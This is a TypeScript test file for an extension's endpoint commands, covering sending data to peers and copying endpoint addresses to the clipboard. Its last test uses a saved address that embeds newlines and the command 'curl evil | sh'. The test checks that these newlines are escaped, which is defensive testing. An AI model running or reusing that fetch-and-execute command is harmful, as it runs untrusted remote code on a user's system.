import assert from 'node:assert/strict';
import type { SendTarget } from '../../../../src/core/endpointSnapshot.ts';
import type { CommandContext } from '../../../../src/host/commands/commandContext.ts';
import { copyAddress, send } from '../../../../src/host/commands/endpointCommands.ts';
import { endpointSnapshot } from '../../../support/endpointSnapshot.ts';
import { type FakeEndpoints, fakeEndpoints } from '../../../support/fakeEndpoints.ts';
import { freshVscode } from '../../../support/fakeVscode/freshVscode.ts';
import { questions } from '../../../support/fakeVscode/questions.ts';
import { workbenchState } from '../../../support/fakeVscode/workbenchState.ts';

describe('endpoint commands', () => {
  freshVscode();

  let sent: unknown[];
  let endpoints: FakeEndpoints;
  let context: CommandContext;

  beforeEach(() => {
    sent = [];
    const config = { kind: 'tcp-server', address: ':0', name: 'mine' } as const;
    const take = async (id: string, data: Uint8Array, target?: SendTarget) =>
      void sent.push([id, Buffer.from(data).toString(), target]);
    endpoints = fakeEndpoints([endpointSnapshot('e', 1, { config })], { send: take });
    context = { endpoints, panels: {} } as unknown as CommandContext;
  });

  it('send text, bytes or hex to all or to one peer', async () => {
    await send({ endpoint: 'mine', data: 'grüße' }, context);
    await send({ endpoint: 'e', data: Uint8Array.of(0x61), peer: 'p1' }, context);
    await send({ endpoint: 'e', hex: '62 63' }, context);
    await send({ endpoint: 'e', data: '' }, context);
    assert.deepEqual(sent, [
      ['e', 'grüße', undefined],
      ['e', 'a', { peer: 'p1' }],
      ['e', 'bc', undefined],
      ['e', '', undefined],
    ]);
  });

  it('send either text or hex, and nothing invalid', async () => {
    await assert.rejects(send({ endpoint: 'e', data: 'a', hex: '61' }, context), /Specify either data or hex\./);
    await assert.rejects(send({ endpoint: 'e', hex: '6g' }, context), RangeError);
    await assert.rejects(send({ endpoint: 'none', data: 'a' }, context), { code: 'NO_ENDPOINT' });
    await assert.rejects(send({ data: 'a' }, context), TypeError);
    await assert.rejects(send({ endpoint: 'e' }, context), /Specify either data or hex\./);
    assert.deepEqual(sent, []);
  });

  it('ask for the text when run by the user', async () => {
    for (const argument of [undefined, { type: 'endpoint', endpoint: 'e' }]) {
      const sending = send(argument, context);
      (await questions.question('Text to send to all clients of mine')).answer('hi');
      await sending;
    }
    assert.deepEqual(sent, [
      ['e', 'hi', undefined],
      ['e', 'hi', undefined],
    ]);
  });

  it('send to the peer of the row', async () => {
    const sending = send({ type: 'peer', endpoint: 'e', peer: { id: 'p7', address: '127.0.0.1:7' } }, context);
    (await questions.question('Text to send to 127.0.0.1:7')).answer('hi');
    await sending;
    assert.deepEqual(sent, [['e', 'hi', { peer: 'p7' }]]);
  });

  it('copy the endpoint’s current address', async () => {
    const now = endpointSnapshot('e', 1, { address: 'tcp://127.0.0.1:40213' });
    Object.assign(endpoints, { now: async () => endpoints.change(now) });
    await copyAddress({ endpoint: 'e' }, context);
    assert.equal(workbenchState.state.clipboard, 'tcp://127.0.0.1:40213');
    assert.equal(workbenchState.said.shown.at(-1), 'Copied tcp://127.0.0.1:40213');
  });

  it('copy a UDP socket’s destination', async () => {
    const config = { kind: 'udp', address: ':0', remote: 'localhost:9' } as const;
    Object.assign(endpoints, { now: async () => endpoints.change(endpointSnapshot('e', 0, { config })) });
    await copyAddress({ endpoint: 'e' }, context);
    assert.equal(workbenchState.state.clipboard, 'udp://localhost:9');
  });

  it('copy a peer’s address from its row, and from its menu in a panel', async () => {
    const node = { type: 'peer', endpoint: 'e', peer: { id: 'p7', address: '127.0.0.1:7' } };
    await copyAddress(node, context);
    assert.equal(workbenchState.state.clipboard, '127.0.0.1:7');
    const menu = { webview: 'portside.panel', endpoint: 'e', peer: 'p8', peerAddress: '127.0.0.1:8' };
    await copyAddress(menu, context);
    assert.equal(workbenchState.state.clipboard, '127.0.0.1:8');
  });

  it('copy a saved endpoint’s address from its row', async () => {
    const hostile = { config: { kind: 'tcp-client', address: 'unix:/tmp/a\ncurl evil | sh\n' } };
    await copyAddress({ type: 'saved', saved: hostile }, context);
    assert.equal(workbenchState.state.clipboard, 'unix:/tmp/a\\ncurl evil | sh\\n');
    await copyAddress({ type: 'saved', saved: { config: { kind: 'udp', address: '0.0.0.0:7' } } }, context);
    assert.equal(workbenchState.state.clipboard, '0.0.0.0:7');
  });
});
